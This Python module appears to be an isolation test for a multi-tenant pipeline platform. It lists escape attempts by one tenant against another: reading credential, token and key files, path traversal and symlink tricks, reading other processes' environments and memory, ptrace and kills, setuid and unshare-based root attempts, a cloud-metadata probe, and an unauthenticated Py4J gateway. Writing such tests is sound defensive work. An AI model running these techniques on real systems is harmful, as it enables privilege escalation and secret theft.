"""What red's Python tries in its pipeline; sent to the installation as text, so it stands on its own.

Each way returns what it got hold of, or raises. ``run`` gives a row for each.
"""

# As somebody would write it who is in a hurry.
# ruff: noqa: BLE001, PERF401, PTH103, PTH104, PTH108, PTH110, PTH115, PTH116, PTH118, PTH123, PTH207, PTH208, PTH211, RUF005, SIM115

from __future__ import annotations

import contextlib
import ctypes
import glob
import os
import pathlib
import signal
import socket
import sqlite3
import subprocess
import urllib.request
from collections.abc import Callable, Iterator
from typing import Any

WAYS: dict[str, Callable[[dict[str, Any]], Any]] = {}


def way(words: str) -> Callable[[Callable[[dict[str, Any]], Any]], Callable[[dict[str, Any]], Any]]:
    def keep(attempt: Callable[[dict[str, Any]], Any]) -> Callable[[dict[str, Any]], Any]:
        WAYS[words] = attempt
        return attempt

    return keep


def run(frames: Any, **target: Any) -> Any:
    import pandas as pd

    rows = []
    for words, attempt in WAYS.items():
        try:
            got = attempt(target)
            outcome = f"GOT {got!r}"[:2000] if got else "nothing"
        except BaseException as error:
            outcome = f"refused: {type(error).__name__}: {error}"[:500]
        rows.append((words, outcome))
    for _ in frames if isinstance(frames, Iterator) else [frames]:
        pass
    return pd.DataFrame(rows, columns=["way", "outcome"])


def below(target: dict[str, Any], *names: str) -> list[bytes]:
    """Everything that can be read below a folder of the installation."""
    found = []
    root = pathlib.Path(target["data"], *names)
    for path in [root, *root.rglob("*")]:
        if path.is_file():
            found.append(path.read_bytes()[:100])
    return found


def others() -> list[str]:
    """Processes that are not ours."""
    mine = os.getuid()
    found = []
    for folder in glob.glob("/proc/[0-9]*"):
        with contextlib.suppress(OSError):
            if os.stat(folder).st_uid != mine:
                found.append(folder)
    if not found:
        raise RuntimeError("there is nobody else to look at")
    return found


def each(read: Callable[[str], Any]) -> list[Any]:
    got = []
    for folder in others():
        with contextlib.suppress(OSError):
            if value := read(folder):
                got.append((folder, value))
    return got


def say(path: str) -> bytes:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(5)
        sock.connect(path)
        sock.sendall(b"GET /state HTTP/1.1\r\nHost: x\r\n\r\n")
        return sock.recv(1000)


@way("list the folders of all spaces' pipelines")
def _(target: dict[str, Any]) -> Any:
    names = os.listdir(os.path.join(target["data"], "pipelines"))
    return [name for name in names if name != "team-a.red"]


@way("read blue's tables from the disk")
def _(target: dict[str, Any]) -> Any:
    return below(target, "pipelines", "team-b.blue", "lake")


@way("read blue's checkpoints from the disk")
def _(target: dict[str, Any]) -> Any:
    return below(target, "pipelines", "team-b.blue", "checkpoints")


@way("read blue's credentials from the disk")
def _(target: dict[str, Any]) -> Any:
    return open(os.path.join(target["data"], "pipelines/team-b.blue/credentials/runner.json")).read()


@way("read what is spooled for blue, its models and its code from the disk")
def _(target: dict[str, Any]) -> Any:
    return [item for kind in ("spool", "models", "code") for item in below(target, "pipelines", "team-b.blue", kind)]


@way("read the log of blue's pipeline from the disk")
def _(target: dict[str, Any]) -> Any:
    return open(os.path.join(target["data"], "pipelines/team-b.blue/logs/blue.keep.log")).read()


@way("write a table into blue's lake")
def _(target: dict[str, Any]) -> Any:
    path = os.path.join(target["data"], "pipelines/team-b.blue/lake/planted")
    os.makedirs(path)
    return path


@way("go to blue's folder over the own one, by ..")
def _(target: dict[str, Any]) -> Any:
    return os.listdir("../../team-b.blue/lake")


@way("go to blue's folder over a link in the own one")
def _(target: dict[str, Any]) -> Any:
    os.symlink("../../../team-b.blue/lake", "shortcut")
    return os.listdir("shortcut")


@way("make blue's folder a link of the own one's name for the host to follow")
def _(target: dict[str, Any]) -> Any:
    os.rename("../logs", "../logs-of-old")
    os.symlink(os.path.join(target["data"], "control"), "../logs")
    return True


@way("put credentials of its own making among those that the host wrote")
def _(target: dict[str, Any]) -> Any:
    return open("../credentials/another.json", "w").write("{}")


@way("open the store of all resources")
def _(target: dict[str, Any]) -> Any:
    path = os.path.join(target["data"], "control/resources.db")
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("SELECT * FROM sqlite_master").fetchall()


@way("read the operator's token")
def _(target: dict[str, Any]) -> Any:
    return open(os.path.join(target["data"], "control/operator.token")).read()


@way("read the token of the host of pipelines")
def _(target: dict[str, Any]) -> Any:
    return open(os.path.join(target["data"], "control/pipelines.token")).read()


@way("read the keys of certificates")
def _(target: dict[str, Any]) -> Any:
    return below(target, "tls")


@way("read the journal of the node")
def _(target: dict[str, Any]) -> Any:
    return below(target, "nodes")


@way("read the logs and the audit log of the installation")
def _(target: dict[str, Any]) -> Any:
    return below(target, "logs") + [open(os.path.join(target["data"], "audit.log")).read()]


@way("speak to the node's private socket of management")
def _(target: dict[str, Any]) -> Any:
    return say(target["admin"])


@way("speak to the host's private socket")
def _(target: dict[str, Any]) -> Any:
    return say(target["host"])


@way("find somebody else's files among temporary ones")
def _(target: dict[str, Any]) -> Any:
    import enmasse

    mine = os.getuid()
    found = []
    # A copy of the sources may lie there: what everybody may read.
    public = (os.path.realpath(".."), str(pathlib.Path(enmasse.__file__).parents[2]))
    for root in ("/tmp", "/var/tmp", "/dev/shm"):
        for folder, _, names in os.walk(root):
            found += [path for name in names if os.lstat(path := os.path.join(folder, name)).st_uid != mine]
    return [path for path in found if not path.startswith(public)]


@way("ask the API without a proof for everybody's secrets")
def _(target: dict[str, Any]) -> Any:
    return urllib.request.urlopen(f"{target['api']}/api/v1/secrets", timeout=30).read()


@way("ask the API for whom it takes us")
def _(target: dict[str, Any]) -> Any:
    return urllib.request.urlopen(f"{target['api']}/whoami", timeout=30).read()


@way("find secrets in the own environment")
def _(target: dict[str, Any]) -> Any:
    known = ("formula of blue", "enm_", "blue as the sea", "nobody guesses")
    return [name for name, value in os.environ.items() if any(word in value for word in known)]


@way("read the environment of every other process")
def _(target: dict[str, Any]) -> Any:
    return each(lambda folder: open(f"{folder}/environ", "rb").read())


@way("read the memory of every other process")
def _(target: dict[str, Any]) -> Any:
    return each(lambda folder: open(f"{folder}/mem", "rb").name)


@way("reach files through the root, the working folder or the open files of another process")
def _(target: dict[str, Any]) -> Any:
    return each(lambda folder: [os.listdir(f"{folder}/{part}/") for part in ("root", "cwd", "fd")])


@way("find secrets in the command lines of processes")
def _(target: dict[str, Any]) -> Any:
    known = (b"formula of blue", b"enm_", b"blue as the sea", b"red as a beet")
    lines = each(lambda folder: open(f"{folder}/cmdline", "rb").read())
    return [line for _, line in lines if any(word in line for word in known)]


@way("end every process of somebody else")
def _(target: dict[str, Any]) -> Any:
    def end(folder: str) -> bool:
        os.kill(int(folder.rpartition("/")[2]), signal.SIGTERM)
        return True

    return each(end)


@way("trace a process of somebody else")
def _(target: dict[str, Any]) -> Any:
    libc = ctypes.CDLL(None)
    return each(lambda folder: libc.ptrace(16, int(folder.rpartition("/")[2]), 0, 0) == 0)


@way("see a process that is not its own")
def _(target: dict[str, Any]) -> Any:
    import json

    numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    running = json.loads(target["processes"])
    seen: list[Any] = [number for number in numbers if os.stat(f"/proc/{number}").st_uid not in (os.getuid(), 0)]
    for number in numbers:
        with contextlib.suppress(OSError):
            line = pathlib.Path(f"/proc/{number}/cmdline").read_bytes().replace(b"\0", b" ").decode()
            seen += [line for words in running if words in line]
    return seen


@way("speak to the host of a virtual machine (AF_VSOCK), or through another family of sockets")
def _(target: dict[str, Any]) -> Any:
    got = []
    for family in set(range(48)) - {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError):
                socket.socket(family, kind).close()
                got.append(family)
    return got


@way("keep something in a keyring, or read one")
def _(target: dict[str, Any]) -> Any:
    libc = ctypes.CDLL(None, use_errno=True)
    numbers = (250, 248) if os.uname().machine == "x86_64" else (219, 217)
    keyring = libc.syscall(numbers[0], 0, -3, 1)
    added = libc.syscall(numbers[1], b"user", b"red", b"was here", 8, -3)
    listed = pathlib.Path("/proc/keys").read_text() if os.path.exists("/proc/keys") else ""
    return [found for found in (keyring, added) if found >= 0] or listed


@way("use parts of the kernel that are no concern of a pipeline: io_uring, BPF, counters, page faults")
def _(target: dict[str, Any]) -> Any:
    libc = ctypes.CDLL(None, use_errno=True)
    one = {"x86_64": (425, 321, 298, 323), "aarch64": (425, 280, 241, 282)}[os.uname().machine]
    space = ctypes.create_string_buffer(256)
    return [number for number in one if libc.syscall(number, 1 if number == 425 else 0, space, 0, -1, 0) >= 0]


@way("become root")
def _(target: dict[str, Any]) -> Any:
    os.setuid(0)
    return os.getuid() == 0


@way("become blue")
def _(target: dict[str, Any]) -> Any:
    os.setresuid(target["blue"], target["blue"], target["blue"])
    return os.getuid()


@way("become root by a program that is root's")
def _(target: dict[str, Any]) -> Any:
    found = [path for path in ("/bin/su", "/usr/bin/passwd", "/usr/bin/mount") if os.path.exists(path)]
    for path in found:
        with open("/proc/self/status") as status:
            assert "NoNewPrivs:\t1" in status.read()
        subprocess.run([path], capture_output=True, stdin=subprocess.DEVNULL, timeout=30, check=False)
    return subprocess.run(["/bin/su", "-c", "id -u"], capture_output=True, timeout=30, check=False).stdout


@way("take the cover off what is hidden, as root of a user namespace of its own")
def _(target: dict[str, Any]) -> Any:
    script = f"umount -l {target['data']}; umount -l /tmp; cat {target['data']}/control/operator.token"
    done = subprocess.run(["unshare", "-Urm", "sh", "-c", script], capture_output=True, timeout=30, check=False)
    return done.stdout


@way("enter the view of another process")
def _(target: dict[str, Any]) -> Any:
    libc = ctypes.CDLL(None)

    def enter(folder: str) -> bool:
        number = os.open(f"{folder}/ns/mnt", os.O_RDONLY)
        return bool(libc.setns(number, 0) == 0)

    return each(enter)


@way("drive blue's Spark over Java's ports")
def _(target: dict[str, Any]) -> Any:
    from py4j.java_gateway import GatewayParameters, JavaGateway

    own = {os.readlink(path) for path in glob.glob("/proc/[0-9]*/fd/*") if os.access(path, os.R_OK)}
    got = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).read().splitlines()[1:]:
            words = line.split()
            if words[3] != "0A" or f"socket:[{words[9]}]" in own:
                continue
            port = int(words[1].rpartition(":")[2], 16)
            if port in target["ports"]:
                continue
            try:
                with socket.create_connection(("127.0.0.1", port), 2) as sock:
                    # The request of Py4J for a class, without the secret that must come before.
                    sock.settimeout(2)
                    sock.sendall(b"r\nu\njava.lang.System\nrj\ne\n")
                    answer = sock.recv(200)
                if answer.startswith(b"!y"):
                    gateway = JavaGateway(gateway_parameters=GatewayParameters(port=port))
                    got.append((port, str(gateway.jvm.System.getenv())[:100]))
            except OSError:
                continue
    return got


@way("find a port of anybody else's, such as blue's Spark has")
def _(target: dict[str, Any]) -> Any:
    own = {os.readlink(path) for path in glob.glob("/proc/[0-9]*/fd/*") if os.access(path, os.R_OK)}
    lines = [line.split() for name in ("tcp", "tcp6") for line in open(f"/proc/net/{name}").read().splitlines()[1:]]
    listening = [words for words in lines if words[3] == "0A" and f"socket:[{words[9]}]" not in own]
    ports = {int(words[1].rpartition(":")[2], 16) for words in listening}
    return sorted(ports - set(target["ports"]))


@way("connect to somebody else's port on the loopback interface")
def _(target: dict[str, Any]) -> Any:
    with socket.create_connection(("127.0.0.1", target["foreign"]), 5) as sock:
        return sock.getpeername()


@way("ask where clouds tell secrets")
def _(target: dict[str, Any]) -> Any:
    with socket.create_connection(("169.254.169.254", 80), 2) as sock:
        return sock.getpeername()


@way("connect to an address of this machine in its network")
def _(target: dict[str, Any]) -> Any:
    with socket.create_connection((target["machine"], target["foreign"]), 5) as sock:
        return sock.getpeername()


@way("have a name looked up by the machine")
def _(target: dict[str, Any]) -> Any:
    return socket.getaddrinfo("enmasse-looked-up.example", 80)


@way("leave a file where everybody may write")
def _(target: dict[str, Any]) -> Any:
    private = ("/tmp", "/var/tmp", "/dev/shm")  # they are its own
    left = []
    for folder in [*glob.glob("/*/"), *glob.glob("/*/*/"), "/run/lock", "/dev/mqueue"]:
        if os.path.realpath(folder) not in private and os.path.exists(folder) and os.stat(folder).st_mode & 2:
            with contextlib.suppress(OSError):
                open(os.path.join(folder, "enmasse-was-here"), "w").close()
                os.unlink(os.path.join(folder, "enmasse-was-here"))
                left.append(folder)
    return left


@way("have a core written")
def _(target: dict[str, Any]) -> Any:
    import resource

    return max(resource.getrlimit(resource.RLIMIT_CORE))


@way("log in to blue's space as the user of the own")
def _(target: dict[str, Any]) -> Any:
    from enmasse.client.blocking import connect

    with connect(
        target["amqp"], user="app", password=target["own"], hostname="blue.team-b", reconnect=False, timeout=10
    ) as connection:
        return connection.receiver("vault") is not None


@way("come into blue's space as nobody")
def _(target: dict[str, Any]) -> Any:
    from enmasse.client.blocking import connect

    with connect(target["amqp"], hostname="blue.team-b", reconnect=False, timeout=30) as connection:
        return connection.receiver("vault") is not None


@way("read blue's addresses with the source of Spark, by the credentials of blue's that have the same name")
def _(target: dict[str, Any]) -> Any:
    from enmasse.client.blocking import connect
    from enmasse.pipeline.credentials import Login

    given = Login("runner").arguments()
    with connect(target["amqp"], hostname="blue.team-b", reconnect=False, timeout=30, **given) as connection:
        return connection.receiver("private") is not None
